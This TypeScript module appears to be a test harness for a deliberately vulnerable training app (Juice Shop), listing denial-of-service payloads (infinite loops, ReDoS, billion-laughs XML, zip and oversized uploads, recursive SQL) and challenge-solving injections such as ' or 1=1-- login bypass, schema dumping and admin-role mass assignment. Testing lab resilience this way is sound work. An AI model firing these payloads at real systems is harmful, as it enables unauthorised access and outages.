import { billionLaughs } from '../../lab/proofs/attacker/hostile-documents.js'
import { makeZip } from '../../lab/proofs/attacker/make-zip.js'
import { type Asked, fileForm } from './class-visitor.js'

type As = (token: string) => Attack

/** A request that costs a lab far more than it costs its sender, or that solves something. */
export interface Attack {
  readonly path: string
  readonly asked?: Asked
}

const q = (text: string) => `/rest/products/search?q=${encodeURIComponent(text)}`
const products = ['a', 'b', 'c', 'd', 'e', 'f'].map((name) => `Products ${name}`).join(',')
const order = (orderLinesData: string) => (token: string) => ({
  path: '/b2b/v2/orders',
  asked: { body: { orderLinesData }, headers: { Authorization: `Bearer ${token}` } },
})
const photo = Buffer.alloc(15_000_000)
const archive = makeZip(
  Array.from({ length: 190 }, (_, index) => ({ name: `f${index}.txt`, content: 'x'.repeat(20_000) })),
)

/** The attacks of a class that are meant to hurt, by name. */
export const costlyAttacks: readonly (readonly [string, As])[] = [
  ['SQL of 114 characters', () => ({ path: q(`x'))UNION SELECT count(*),2,3,4,5,6,7,8,?9from ${products}`) })],
  [
    'SQL that sorts much',
    () => ({
      path: q(`x'))UNION SELECT a.name||b.name,2,3,4,5,6,7,8,9 from Products a,Products b,Products c order by 1--`),
    }),
  ],
  ['sandbox: a loop', order('(() => { while (true) {} })()')],
  ['sandbox: an expression', order("/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')")],
  [
    'condition: an expression',
    () => ({
      path: `/rest/track-order/${encodeURIComponent("' || /((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa') || '")}`,
    }),
  ],
  ['a deep body', () => ({ path: '/api/Users', asked: { body: '['.repeat(90_000) } })],
  [
    'a photo of 15 MB',
    (token) => ({
      path: '/rest/memories',
      asked: { ...fileForm('image', 'photo.png', photo), headers: { Authorization: `Bearer ${token}` } },
    }),
  ],
  ['an archive of 190 files', () => ({ path: '/file-upload', asked: fileForm('file', 'complaint.zip', archive) })],
  ['entities of entities', () => ({ path: '/file-upload', asked: fileForm('file', 'complaint.xml', billionLaughs) })],
]

/** The longest that one may keep a lab busy with, by script, by condition and by query. */
export const busyLoops: readonly As[] = [
  order('(() => { while (true) new Array(99).join() })()'),
  () => ({ path: `/rest/products/${encodeURIComponent('(() => { while (true) {} })()')}/reviews` }),
  () => ({
    path: q(
      "x'))UNION SELECT (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT count(*) FROM c),2,3,4,5,6,7,8,9--",
    ),
  }),
]

const logIn = (email: string): Attack => ({ path: '/rest/user/login', asked: { body: { email, password: 'x' } } })

/** Attacks that solve something, in the order in which a learner finds them. */
export const solvingAttacks: readonly As[] = [
  () => ({ path: '/assets/public/images/padding/1px.png' }),
  () => logIn("' or 1=1--"),
  () => ({ path: '/ftp/acquisitions.md' }),
  () => logIn("jim@juice-sh.op'--"),
  () => ({ path: '/metrics' }),
  (token) => ({ path: '/rest/basket/1', asked: { headers: { Authorization: `Bearer ${token}` } } }),
  () => logIn("bender@juice-sh.op'--"),
  () => ({ path: '/assets/public/images/padding/81px.png' }),
  () => ({ path: '/.well-known/security.txt' }),
  () => ({ path: q("x'))UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master--") }),
  () => ({ path: '/ftp/package.json.bak%2500.md' }),
  () => ({ path: '/api/Users', asked: { body: { email: `a${Math.random()}@b.c`, password: 'abcde', role: 'admin' } } }),
]
